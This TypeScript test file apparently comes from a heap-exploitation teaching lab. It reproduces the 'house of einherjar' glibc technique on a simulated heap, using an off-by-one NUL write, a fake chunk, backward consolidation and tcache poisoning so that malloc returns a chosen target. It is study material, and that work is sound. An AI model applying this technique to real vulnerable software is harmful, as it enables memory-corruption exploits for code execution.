/**
 * house_of_einherjar: an off-by-one NUL clears PREV_INUSE of chunk c, whose prev_size (the last
 * word of the chunk before it) is set to the distance back to a fake free chunk built inside
 * chunk a (fd = bk = itself, size = that distance). Freeing c consolidates backwards into the
 * fake chunk, so the next allocation overlaps chunk b, still in use; b is then freed into the
 * tcache and its next pointer rewritten through the overlapping chunk (tcache poisoning).
 * The fake chunk must be at a known (heap) address; without tcache there is nothing to poison.
 */

import assert from "node:assert/strict";
import { type Lab, on, TCACHE_VERSIONS, technique } from "./support.ts";

technique({
  name: "house_of_einherjar",
  claim: "malloc returns a target after backward consolidation into a fake chunk",
  // The chunk sizes are how2heap's 64-bit ones; on i386 the fake chunk would be misaligned.
  arches: ["x86_64"],
  outcomes: on(TCACHE_VERSIONS, "works"),
  run(lab: Lab) {
    const h = lab.heap, sz = lab.sz, mem = lab.proc.memory;
    const target = lab.stackTarget();
    const a = h.malloc(0x38);
    lab.setWord(a, 0, 0);
    lab.setWord(a, 1, 0x60);
    lab.setWord(a, 2, a); // fd
    lab.setWord(a, 3, a); // bk
    const b = h.malloc(0x28);
    const realB = h.usableSize(b);
    const c = h.malloc(0xf8);
    lab.vulnerability();
    mem.write8(b + realB, 0); // c's size 0x101 becomes 0x100
    const fakeSize = lab.chunk(c) - a;
    lab.write(b + realB - sz, fakeSize); // c's prev_size
    lab.setWord(a, 1, fakeSize);
    lab.freeAll(lab.tcacheFillers(0xf8));
    h.free(c);
    const d = h.malloc(0x158);
    assert.equal(d, a + 2 * sz);
    const pad = h.malloc(0x28); // a second tcache entry, so the count allows two mallocs
    h.free(pad);
    h.free(b);
    const bNext = d + 0x30; // b's next pointer, written through d
    assert.equal(bNext, b);
    lab.write(bNext, lab.protect(bNext, target));
    assert.equal(h.malloc(0x28), b);
    assert.equal(h.malloc(0x28), target);
  },
});
